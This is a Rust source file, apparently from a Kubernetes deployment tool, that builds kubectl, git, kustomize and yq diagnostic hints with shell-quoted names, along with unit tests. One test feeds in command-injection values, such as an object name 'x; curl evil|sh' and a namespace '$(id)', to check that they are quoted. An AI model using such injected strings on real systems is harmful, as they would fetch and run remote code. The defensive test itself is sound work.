use manifest::ObjectId;
use runtime::shell_word;
use ssa::{ApiError, FailingPod, ObjectCause, ObjectError};

/// Most objects whose place in the source is told.
pub(crate) const MOST: usize = 3;

/// Where objects stand: `Where: Deployment/ns/web in app/web.yaml, at main@sha1:…`.
pub(crate) fn whereabouts(found: &[(ObjectId, String)], revision: &str) -> Option<String> {
    let one = |(id, file): &(ObjectId, String)| format!("{} in {file}", id.subject());
    let all: Vec<String> = found.iter().take(MOST).map(one).collect();
    (!all.is_empty()).then(|| format!("Where: {}, at {revision}", all.join("; ")))
}

/// What to run about an object that the API server refused.
pub(crate) fn refused(error: &ObjectError, account: Option<&str>) -> String {
    let id = &error.id;
    let text = error.to_string();
    if text.contains("exceeded quota") {
        return run(&id.namespace, "describe resourcequota");
    }
    if text.contains("because it is being terminated") {
        return run("", &format!("get namespace {} -o yaml", shell_word(&id.namespace)));
    }
    if text.contains("failed calling webhook") || text.contains("admission webhook") {
        return run("", "get validatingwebhookconfigurations,mutatingwebhookconfigurations");
    }
    match &error.cause {
        ObjectCause::NoMatch(gvk) => {
            run("", &format!("api-resources --api-group={}", shell_word(&gvk.group)))
        }
        ObjectCause::StillThere => run(&id.namespace, &format!("get {} -o yaml", named(id))),
        _ if text.contains("namespaces \"") => {
            run("", &format!("get namespace {}", shell_word(&id.namespace)))
        }
        _ if error.api().is_some_and(ApiError::is_forbidden) => may_what(&id.namespace, account),
        _ => describe(id),
    }
}

fn may_what(namespace: &str, account: Option<&str>) -> String {
    let account = account.map(|account| format!(" --as={}", shell_word(account))).unwrap_or_default();
    run(namespace, &format!("auth can-i --list{account}"))
}

/// What to run about an object that does not become healthy.
pub(crate) fn unhealthy(id: &ObjectId, pod: Option<&FailingPod>) -> String {
    let Some(FailingPod { pod, cause }) = pod else { return describe(id) };
    if pod.is_empty() {
        let quota = cause.message.contains("exceeded quota");
        return if quota { run(&id.namespace, "describe resourcequota") } else { describe(id) };
    }
    match &cause.container {
        Some(container) if cause.reason == "CrashLoopBackOff" => {
            run(&id.namespace, &format!("logs {} -c {} --previous", shell_word(pod), shell_word(container)))
        }
        _ => run(&id.namespace, &format!("describe pod {}", shell_word(pod))),
    }
}

/// What to run about a build that fails: the same build, where the repository is at hand. None for sources that are
/// not Git.
pub(crate) fn rebuild(revision: &str, path: &str) -> Option<String> {
    let path = format!("./{}", path.trim_start_matches("./").trim_matches('/'));
    Some(format!("Run: git checkout {} && kustomize build {}", commit(revision)?, shell_word(&path)))
}

/// What to run about a path that is not there: the folders that are.
pub(crate) fn folders(revision: &str) -> Option<String> {
    Some(format!("Run: git ls-tree -rd --name-only {}", commit(revision)?))
}

/// What to run about something of the namespace that is referred to. Of a Secret `describe` shows keys and sizes only.
pub(crate) fn look_at(namespace: &str, kind: &str, name: &str) -> String {
    run(namespace, &format!("describe {} {}", kind.to_ascii_lowercase(), shell_word(name)))
}

/// How to take fields of the server out of a file.
pub(crate) fn strip(file: &str, fields: &[String]) -> String {
    let paths: Vec<String> = fields.iter().map(|field| format!(".{field}")).collect();
    let delete = format!("del({})", paths.join(", "));
    format!("Run: yq -i {} {}", shell_word(&delete), shell_word(file))
}

/// What to run about an object that does not go away.
pub(crate) fn holders(id: &ObjectId) -> String {
    run(&id.namespace, &format!("get {} -o jsonpath={{.metadata.finalizers}}", named(id)))
}

fn describe(id: &ObjectId) -> String {
    run(&id.namespace, &format!("describe {}", named(id)))
}

fn named(id: &ObjectId) -> String {
    let group = if id.group.is_empty() { String::new() } else { format!(".{}", id.group) };
    let text = format!("{}{group}/{}", id.kind.to_ascii_lowercase(), id.name);
    shell_word(&text).into_owned()
}

fn run(namespace: &str, what: &str) -> String {
    let namespace =
        if namespace.is_empty() { String::new() } else { format!("-n {} ", shell_word(namespace)) };
    format!("Run: kubectl {namespace}{what}")
}

fn commit(revision: &str) -> Option<&str> {
    let (_, hash) = revision.rsplit_once("sha1:")?;
    hash.bytes().all(|byte| byte.is_ascii_hexdigit()).then_some(hash)
}

/// A path of the origin annotation, which is seen from the folder that was built, as one of the source.
pub(crate) fn from_root(folder: &str, path: &str) -> String {
    api::meta::rooted(&format!("{folder}/{path}"))
}

/// The line, counted from 1, of a field in the document of an object, where exactly one has its name.
pub(crate) fn line(text: &str, name: &str, field: &str) -> Option<usize> {
    let key = field.rsplit('.').next().filter(|key| !key.is_empty() && !key.contains(['[', ']', '"']))?;
    let is = |line: &str, key: &str| {
        let line = line.trim_start().trim_start_matches(['-', ' ', '{', '"']);
        line.strip_prefix(key).is_some_and(|rest| rest.trim_start_matches('"').starts_with(':'))
    };
    let names = |line: &str| {
        let value = line.split_once(':').map(|(_, value)| value.trim().trim_matches([',', '"', '\'']));
        is(line, "name") && value == Some(name)
    };
    let mut first = 1;
    let mut found = Vec::new();
    for document in text.split("\n---") {
        if document.lines().any(names) {
            let at = |(at, line): (usize, &str)| is(line, key).then_some(first + at);
            found.extend(document.lines().enumerate().filter_map(at));
        }
        first += document.matches('\n').count() + 1;
    }
    <[usize; 1]>::try_from(found).ok().map(|[line]| line)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn id(text: &str) -> ObjectId {
        ObjectId::parse(text).unwrap()
    }

    #[test]
    fn objects_are_told_with_their_files_and_the_commit() {
        let found = [(id("ns_web_apps_Deployment"), "app/web.yaml".to_owned())];
        assert_eq!(
            whereabouts(&found, "main@sha1:1").unwrap(),
            "Where: Deployment/ns/web in app/web.yaml, at main@sha1:1"
        );
        assert_eq!(whereabouts(&[], "r"), None);
    }

    #[test]
    fn a_crash_is_looked_up_in_the_log_and_everything_else_by_describe() {
        let pod = |reason: &str| FailingPod {
            pod: "web-1".into(),
            cause: kstatus::PodCause {
                container: Some("main".into()),
                reason: reason.into(),
                message: String::new(),
            },
        };
        let id = id("ns_web_apps_Deployment");
        assert_eq!(
            unhealthy(&id, Some(&pod("CrashLoopBackOff"))),
            "Run: kubectl -n ns logs web-1 -c main --previous"
        );
        assert_eq!(unhealthy(&id, Some(&pod("ImagePullBackOff"))), "Run: kubectl -n ns describe pod web-1");
        assert_eq!(unhealthy(&id, None), "Run: kubectl -n ns describe deployment.apps/web");
    }

    #[test]
    fn names_and_paths_of_a_stranger_are_words_and_no_commands() {
        let odd =
            ObjectId { name: "x; curl evil|sh".into(), namespace: "$(id)".into(), ..id("ns_web__ConfigMap") };
        assert_eq!(describe(&odd), "Run: kubectl -n '$(id)' describe 'configmap/x; curl evil|sh'");
        assert_eq!(holders(&odd).matches("'configmap/x; curl evil|sh'").count(), 1);
        assert_eq!(strip("a b.yaml", &["status".into()]), "Run: yq -i 'del(.status)' 'a b.yaml'");
        assert_eq!(
            rebuild("main@sha1:ab12", "./a;b").unwrap(),
            "Run: git checkout ab12 && kustomize build './a;b'"
        );
    }

    #[test]
    fn a_build_is_repeated_at_its_commit_and_only_for_git() {
        assert_eq!(
            rebuild("main@sha1:ab12", "./app").unwrap(),
            "Run: git checkout ab12 && kustomize build ./app"
        );
        assert_eq!(rebuild("v1@sha256:ab12", "./app"), None);
        assert_eq!(folders("main@sha1:ab; rm"), None);
    }

    #[test]
    fn the_line_of_a_field_is_told_where_it_is_the_only_one() {
        let text = "kind: A\nmetadata:\n  name: other\nspec:\n  replicas: 1\n---\nkind: A\nmetadata:\n  name: web\nspec:\n  \
                    replicas: 2\n";
        assert_eq!(line(text, "web", ".spec.replicas"), Some(11));
        assert_eq!(line("{\n  \"name\": \"web\",\n  \"replicas\": 2\n}", "web", ".spec.replicas"), Some(3));
        assert_eq!(line(&text.replace("spec:", "replicas: 3"), "web", ".spec.replicas"), None);
        assert_eq!(line(text, "web", ""), None);
    }

    #[test]
    fn paths_of_bases_are_told_from_the_root_of_the_source() {
        assert_eq!(from_root("./apps/prod", "../base/web.yaml"), "apps/base/web.yaml");
        assert_eq!(from_root("", "../../x.yaml"), "x.yaml");
    }
}
